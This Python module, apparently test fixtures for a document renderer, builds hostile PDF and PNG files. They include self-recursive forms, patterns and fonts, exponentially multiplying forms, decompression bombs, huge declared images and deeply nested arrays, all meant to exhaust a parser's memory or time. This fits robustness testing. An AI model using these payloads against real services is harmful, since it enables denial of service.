"""Small files that want much: documents and pictures as an attacker writes them."""

from __future__ import annotations

import struct
import zlib

_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]"


def pdf(*objects: bytes) -> bytes:
    """Write a PDF document of these objects, numbered from 1; the first is the catalogue."""
    data = b"%PDF-1.7\n"
    offsets: list[int] = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    count = len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table)
    start = data.index(b"xref\n0 ")
    return data + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (count, start)


def one_page(page: bytes, *objects: bytes) -> bytes:
    """Write a document of one page; further objects are numbered from 4."""
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, _PAGE + page + b">>", *objects)


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), more, content)


def form_that_draws_itself(times: int = 2) -> bytes:
    """Write a page whose form draws itself, more than once."""
    resources = b"/Resources<</XObject<</F 5 0 R>>>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + resources
    return one_page(
        b"/Contents 4 0 R" + resources, stream(b"/F Do"), stream(b"/F Do " * times, form)
    )


def forms_that_double(levels: int = 40) -> bytes:
    """Write a page whose forms each draw the next one ten times."""
    forms = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>"
            % (number + 1),
        )
        for number in range(5, 5 + levels)
    ]
    end = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    resources = b"/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>"
    return one_page(resources, stream(b"/F Do"), *forms, end)


def swollen_stream(megabytes: int = 1_200) -> bytes:
    """Write a page whose content is zeros, deflated twice."""
    packer = zlib.compressobj(9)
    chunk = b" " * 1_000_000
    packed = b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()
    twice = zlib.compress(packed, 9)
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    return one_page(b"/Contents 4 0 R", stream(twice, filters))


def swollen_picture(side: int = 60_000) -> bytes:
    """Write a page with a picture of 3.6 billion pixels in few bytes."""
    row = zlib.compress(b"\0" * 1_000_000, 9)
    image = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (side, side)
    image += b"/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
    resources = b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    return one_page(resources, stream(b"200 0 0 200 0 0 cm /I Do"), stream(row, image))


def nested_arrays(depth: int = 2_000_000) -> bytes:
    """Write a page whose content nests arrays."""
    return one_page(b"/Contents 4 0 R", stream(b"[" * depth))


def pattern_that_fills_itself() -> bytes:
    """Write a page painted with a tiling pattern that is painted with itself."""
    resources = b"/Resources<</Pattern<</P 5 0 R>>>>"
    paint = b"/Pattern cs /P scn 0 0 200 200 re f"
    pattern = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]"
    pattern += b"/XStep .01/YStep .01" + resources
    return one_page(b"/Contents 4 0 R" + resources, stream(paint), stream(paint, pattern))


def font_that_draws_itself() -> bytes:
    """Write a page whose letters are drawn with the font they belong to."""
    resources = b"/Resources<</Font<</T 5 0 R>>>>"
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97"
    font += b"/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>"
    font += resources + b">>"
    letters = stream(b"BT /T 9 Tf (" + b"a" * 500 + b") Tj ET")
    return one_page(b"/Contents 4 0 R" + resources, letters, font, letters)


def function_of_many_samples() -> bytes:
    """Write a page shaded by a function that says it has 2³¹ samples."""
    shading = b"<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 9 9]/Function 6 0 R>>"
    resources = b"/Contents 4 0 R/Resources<</Shading<</S 5 0 R>>>>"
    sampled = b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[65536 32767]"
    sampled += b"/BitsPerSample 32"
    return one_page(resources, stream(b"/S sh"), shading, stream(b"\0" * 99, sampled))


def swollen_png(side: int = 6_000) -> bytes:
    """Write a PNG whose grey values of 16 bits inflate from few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", side, side, 16, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\0\0" * side) * side, 9)
    chunks = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


DOCUMENTS = {
    "a form that draws itself": form_that_draws_itself,
    "forms that double": forms_that_double,
    "a swollen stream": swollen_stream,
    "a swollen picture": swollen_picture,
    "nested arrays": nested_arrays,
    "a pattern that fills itself": pattern_that_fills_itself,
    "a font that draws itself": font_that_draws_itself,
    "a function of many samples": function_of_many_samples,
}
